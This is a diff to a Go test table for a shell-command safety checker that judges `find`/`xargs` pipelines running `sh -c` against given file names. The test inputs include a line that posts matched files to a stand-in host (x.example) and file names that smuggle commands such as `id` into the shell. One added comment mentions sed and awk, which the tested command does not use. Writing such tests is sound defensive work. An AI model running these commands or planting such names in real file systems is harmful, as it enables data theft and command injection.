@@ -21,7 +21,7 @@ func TestNamesInLines(t *testing.T) {
 		{"the name is read again", `find src -name '*.py' | xargs -I{} sh -c 'eval {}'`, map[string][]string{"/w/src": {"a.py"}}, false},
 		{"the name in code of another", `find src -name '*.py' | xargs -I{} sh -c "awk '{}' a"`, map[string][]string{"/w/src": {"a.py"}}, false},
 		{"the line sends it", `find src -name '*.py' | xargs -I{} sh -c 'curl -d @{} https://x.example'`, map[string][]string{"/w/src": {"a.py"}}, false},
-		{"a blank between quotes", `find src -name '*.py' | xargs -I{} sh -c 'head -3 "{}"; wc -l "{}"'`, map[string][]string{"/w/src": {"a b.py", "ä.py", "(auth)/", "a&b;c.py"}, "/w/src/(auth)": {"[id].py"}}, true},
+		{"a blank between quotes", `find src -name '*.py' | xargs -I{} sh -c 'head -3 "{}"; wc -l "{}"'`, map[string][]string{"/w/src": {"a b.py", "ä.py", "(auth)/", "a&b;c.py"}, "/w/src/(auth)": {"[id].py"}}, false}, // sed and awk run what a blank parts
 		{"a blank with one quoted and one not", `find src -name '*.py' | xargs -I{} sh -c 'head -3 "{}"; wc -l {}'`, map[string][]string{"/w/src": {"a b.py"}}, false},
 		{"code between quotes", `find src -name '*.py' | xargs -I{} sh -c 'head -3 "{}"'`, map[string][]string{"/w/src": {"`id`.py"}}, false},
 		{"a quote between quotes", `find src -name '*.py' | xargs -I{} sh -c 'head -3 "{}"'`, map[string][]string{"/w/src": {`a";id;".py`}}, false},
@@ -34,7 +34,7 @@ func TestNamesInLines(t *testing.T) {
 		{"a mark that is a quote", `find src -name '*.py' | xargs -I'"' sh -c 'head "'`, map[string][]string{"/w/src": {"a;id.py"}}, false},
 		{"a mark behind a backslash", `find src -name '*.py' | xargs -I{} sh -c 'head \{}'`, map[string][]string{"/w/src": {"a.py"}}, false},
 		{"what is not UTF-8", `find src -name '*.py' | xargs -I{} sh -c 'head -3 "{}"'`, map[string][]string{"/w/src": {"a\xff.py"}}, false},
-		{"by find itself", `find src -name '*.py' -exec sh -c 'head -1 "{}"' \;`, map[string][]string{"/w/src": {"a b.py"}}, true},
+		{"by find itself", `find src -name '*.py' -exec sh -c 'head -1 "{}"' \;`, map[string][]string{"/w/src": {"a b.py"}}, false},
 		{"by find itself without quotes", `find src -name '*.py' -exec sh -c 'head -1 {}' \;`, map[string][]string{"/w/src": {"a.py"}}, true},
 		{"a name that is code by find itself", `find src -name '*.py' -exec sh -c 'head -1 {}' \;`, map[string][]string{"/w/src": {"$(id).py"}}, false},
 		{"a name with a blank by find itself", `find src -name '*.py' -exec sh -c 'head -1 {}' \;`, map[string][]string{"/w/src": {"a ;id.py"}}, false},
